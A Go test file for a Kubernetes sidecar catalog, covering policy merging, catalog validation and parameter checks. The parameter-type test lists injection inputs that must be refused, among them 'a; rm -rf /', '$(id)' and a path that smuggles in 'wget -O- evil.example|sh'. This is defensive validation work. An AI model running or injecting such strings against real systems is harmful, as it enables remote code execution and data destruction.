package catalog

import (
	"regexp"
	"strings"
	"testing"
)

const twoTemplates = `apiVersion: sidecars.podpatterns.io/v1alpha1
kind: Catalog
templates:
- {name: a, pattern: sidecar, description: a, containers: [{name: a, image: busybox:1.37.0}]}
- {name: b, pattern: sidecar, description: b, containers: [{name: b, image: busybox:1.37.0}]}
- {name: c, pattern: sidecar, description: c, containers: [{name: c, image: busybox:1.37.0}]}
policies:
`

func TestApplyNeverLiftsARestriction(t *testing.T) {
	cat, err := Parse(Source{Name: "c.yaml", Data: []byte(twoTemplates + `
- {name: prod, namespaceSelector: {matchLabels: {env: prod}}, allowed: [a, b], defaults: [b], required: [a]}
- {name: open, namespaceSelector: {matchLabels: {team: x}}, defaults: [c]}
- {name: narrow, namespaceSelector: {matchLabels: {tier: web}}, allowed: [a, c]}
`)})
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		labels             map[string]string
		allowed            []string // nil: all
		defaults, required []string
	}{
		"one policy restricts":                    {map[string]string{"env": "prod"}, []string{"a", "b"}, []string{"b"}, []string{"a"}},
		"a second policy allowing all lifts none": {map[string]string{"env": "prod", "team": "x"}, []string{"a", "b"}, []string{"b", "c"}, []string{"a"}},
		"two allow-lists intersect":               {map[string]string{"env": "prod", "tier": "web"}, []string{"a"}, []string{"b"}, []string{"a"}},
		"no policy allows all":                    {map[string]string{}, nil, nil, nil},
	} {
		t.Run(name, func(t *testing.T) {
			a := cat.Apply(c.labels)
			if strings.Join(a.Allowed, ",") != strings.Join(c.allowed, ",") || (a.Allowed == nil) != (c.allowed == nil) {
				t.Errorf("allowed %v, want %v", a.Allowed, c.allowed)
			}
			if strings.Join(a.Defaults, ",") != strings.Join(c.defaults, ",") || strings.Join(a.Required, ",") != strings.Join(c.required, ",") {
				t.Errorf("defaults %v required %v, want %v %v", a.Defaults, a.Required, c.defaults, c.required)
			}
		})
	}
}

func TestRequiredButNotAllowedIsACatalogError(t *testing.T) {
	for name, c := range map[string]struct {
		policies string
		want     string // "" when valid
	}{
		"two policies that can match one namespace": {`
- {name: prod, namespaceSelector: {matchLabels: {env: prod}}, required: [c]}
- {name: team, namespaceSelector: {matchLabels: {team: x}}, allowed: [a]}
`, `policies[prod].required[0]: Invalid value: "c": policy "prod" requires it, but policy "team", which can match the same namespaces, does not allow it`},
		"required outside its own allow-list": {`
- {name: prod, namespaceSelector: {matchLabels: {env: prod}}, allowed: [a], required: [c]}
`, `policies[0].required[0]: Invalid value: "c": must also be allowed by the same policy`},
		"policies whose selectors exclude each other": {`
- {name: prod, namespaceSelector: {matchLabels: {env: prod}}, required: [c]}
- {name: dev, namespaceSelector: {matchLabels: {env: dev}}, allowed: [a]}
- {name: other, namespaceSelector: {matchExpressions: [{key: env, operator: NotIn, values: [prod]}]}, allowed: [a]}
- {name: unlabelled, namespaceSelector: {matchExpressions: [{key: env, operator: DoesNotExist}]}, allowed: [a]}
`, ""},
		"an unknown required template": {`
- {name: prod, namespaceSelector: {}, required: [zz]}
`, `policies[0].required[0]: Not found: "zz"`},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Parse(Source{Name: "c.yaml", Data: []byte(twoTemplates + c.policies)})
			checkLoads(t, err, c.want)
		})
	}
}

func TestParameterTypes(t *testing.T) {
	for name, c := range map[string]struct {
		p          Parameter
		value, out string // out "" means refused
	}{
		"a path is cleaned":                      {Parameter{Type: Path}, "/data/", "/data"},
		"a path with .. is refused":              {Parameter{Type: Path}, "/var/../etc", ""},
		"a relative path is refused":             {Parameter{Type: Path}, "data", ""},
		"the root is refused":                    {Parameter{Type: Path}, "//", ""},
		"a port in range":                        {Parameter{Type: Port}, "65535", "65535"},
		"a port out of range":                    {Parameter{Type: Port}, "65536", ""},
		"port zero":                              {Parameter{Type: Port}, "0", ""},
		"a host and port":                        {Parameter{Type: HostPort}, "redis.prod.svc:6379", "redis.prod.svc:6379"},
		"an IPv6 host and port":                  {Parameter{Type: HostPort}, "[::1]:80", "[::1]:80"},
		"a host port out of range":               {Parameter{Type: HostPort}, "redis:99999", ""},
		"a host with socat options":              {Parameter{Type: HostPort}, "redis:6379,fork", ""},
		"a host that is not a DNS name":          {Parameter{Type: HostPort}, "re dis:6379", ""},
		"a duration":                             {Parameter{Type: Duration}, "30s", "30s"},
		"a negative duration":                    {Parameter{Type: Duration}, "-1s", ""},
		"a quantity is normalised":               {Parameter{Type: Quantity}, "1000m", "1"},
		"a bad quantity":                         {Parameter{Type: Quantity}, "lots", ""},
		"plain text":                             {Parameter{}, "hello, world", "hello, world"},
		"shell metacharacters in plain text":     {Parameter{}, "a; rm -rf /", ""},
		"command substitution in plain text":     {Parameter{}, "$(id)", ""},
		"a newline in any type":                  {Parameter{Type: Path}, "/a\nb", ""},
		"a control character in validated text":  {Parameter{Validation: ".*"}, "a\x00b", ""},
		"command substitution in a path":         {Parameter{Type: Path}, "/data/$(id)", ""},
		"a command list in a path":               {Parameter{Type: Path}, "/data;wget -O- evil.example|sh;#", ""},
		"white space in a path":                  {Parameter{Type: Path}, "/data /etc/shadow", ""},
		"a comment that cuts the script off":     {Parameter{}, "x #", ""},
		"a quote that ends the script's quoting": {Parameter{}, "it's", ""},
		"a glob in plain text":                   {Parameter{}, "/etc/*", ""},
		"a C1 control (next line)":               {Parameter{}, "a\u0085b", ""},
		"a C1 control (CSI)":                     {Parameter{Validation: ".*"}, "a\u009bb", ""},
		"a line separator":                       {Parameter{Validation: ".*"}, "a\u2028b", ""},
		"a right-to-left override":               {Parameter{Validation: ".*"}, "a\u202eb", ""},
		"invalid UTF-8":                          {Parameter{Validation: ".*"}, "a\xffb", ""},
		"letters beyond ASCII":                   {Parameter{}, "grüße", "grüße"},
		"what the admin's regex admits":          {Parameter{Validation: `[a-z;]+`}, "a;b", "a;b"},
	} {
		t.Run(name, func(t *testing.T) {
			p := c.p
			if p.Validation != "" {
				p.re = regexp.MustCompile("^(?:" + p.Validation + ")$")
			}
			got, err := p.Check(c.value)
			switch {
			case c.out == "" && err == nil:
				t.Errorf("%q accepted as %q", c.value, got)
			case c.out != "" && (err != nil || got != c.out):
				t.Errorf("%q: got %q, %v; want %q", c.value, got, err, c.out)
			}
		})
	}
}

func TestOverridesAreValidated(t *testing.T) {
	_, err := Parse(Source{Name: "c.yaml", Data: []byte(`apiVersion: sidecars.podpatterns.io/v1alpha1
kind: Catalog
templates:
- name: a
  pattern: sidecar
  description: a
  parameters: [{name: memory-limit}]
  overrides:
    resources:
      requests: {cpu: {min: "1", max: 500m}, ephemeral-storage: {max: 1Gi}}
  containers: [{name: a, image: busybox:1.37.0}]
`)})
	for _, want := range []string{
		`templates[0].parameters[0].name: Invalid value: "memory-limit": reserved for resource overrides`,
		`templates[0].overrides.resources.requests[cpu].min: Invalid value: "1": must not exceed max 500m`,
		`templates[0].overrides.resources.requests[ephemeral-storage]: Unsupported value: "ephemeral-storage"`,
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("error %v\nwant it to contain %q", err, want)
		}
	}
}

func TestLifecycleFitsEachMode(t *testing.T) {
	_, err := Parse(Source{Name: "c.yaml", Data: []byte(`apiVersion: sidecars.podpatterns.io/v1alpha1
kind: Catalog
templates:
- name: early
  pattern: ambassador
  description: starts before the app without saying how to tell it is up
  startBeforeApp: true
  containers: [{name: early, image: busybox:1.37.0}]
- name: probed
  pattern: ambassador
  description: a network probe on a port bound to localhost, and an init container with a probe
  nativeSidecar: true
  parameters: [{name: port, type: port, default: "9000"}]
  localPorts: ['{{port}}']
  initContainers:
  - {name: prepare, image: busybox:1.37.0, readinessProbe: {exec: {command: ["true"]}}}
  containers:
  - name: proxy
    image: busybox:1.37.0
    startupProbe: {tcpSocket: {port: '{{port}}'}}
    restartPolicy: Always
`)})
	for _, want := range []string{
		`templates[0].startBeforeApp: Invalid value: true: needs nativeSidecar: true`,
		`templates[0].containers[0].startupProbe: Required value: startBeforeApp`,
		`templates[1].containers[0].startupProbe: Invalid value: "{{port}}": the kubelet probes the Pod's IP`,
		`templates[1].initContainers[0].readinessProbe: Forbidden: an init container runs to completion`,
		`templates[1].containers[0].restartPolicy: Forbidden: set nativeSidecar: true instead`,
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("error %v\nwant it to contain %q", err, want)
		}
	}
}

// YAML reads `env: yes` as a boolean; a selector must say "yes".
func TestSelectorValuesMustBeText(t *testing.T) {
	_, err := Parse(Source{Name: "c.yaml", Data: []byte(twoTemplates + `
- name: prod
  namespaceSelector:
    matchLabels: {env: yes, tier: 1}
    matchExpressions: [{key: zone, operator: In, values: [on, "b"]}]
  defaults: [a]
`)})
	for _, want := range []string{
		`c.yaml: document 1: policies[0].namespaceSelector.matchLabels.env: true is not text: YAML reads unquoted yes`,
		`policies[0].namespaceSelector.matchLabels.tier: 1 is not text`,
		`policies[0].namespaceSelector.matchExpressions[0].values[0]: true is not text`,
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("error %v\nwant it to contain %q", err, want)
		}
	}
	if _, err := Parse(Source{Name: "c.yaml", Data: []byte(twoTemplates + "- {name: p, namespaceSelector: {matchLabels: {env: \"yes\"}}}\n")}); err != nil {
		t.Errorf("a quoted value refused: %v", err)
	}
}
